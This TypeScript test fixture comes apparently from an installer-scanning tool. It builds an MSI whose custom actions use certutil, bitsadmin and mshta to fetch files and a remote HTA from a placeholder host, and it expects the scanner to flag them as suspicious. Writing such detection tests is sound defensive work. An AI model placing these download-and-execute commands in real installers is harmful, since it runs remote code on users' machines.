/** Signed Windows programs that fetch: certutil, bitsadmin, mshta. */
import { buildInstaller } from '../builder/installer.js';
import { ruleId } from '../rule-id.js';
import { noBundle, type SampleCase } from '../sample-case.js';

export const sample: SampleCase = {
  name: 'other-lolbin-url',
  title: 'Windows programs that download',
  kind: 'other',
  fileName: 'lolbin.msi',
  build: () =>
    buildInstaller({
      name: 'Fetcher',
      customActions: [
        'certutil.exe -urlcache -split -f http://files.invalid/a.txt %TEMP%\\a.txt',
        'bitsadmin /transfer job /download /priority high http://files.invalid/b.txt %TEMP%\\b.txt',
        'mshta.exe http://files.invalid/c.hta',
      ].map((target, index) => ({
        name: `Fetch${index + 1}`,
        type: 34 + 64,
        source: 'TARGETDIR',
        target,
        after: 'InstallFinalize',
      })),
    }),
  expected: noBundle({ verdict: 'suspicious', findings: [ruleId.lolbinUrl] }),
};
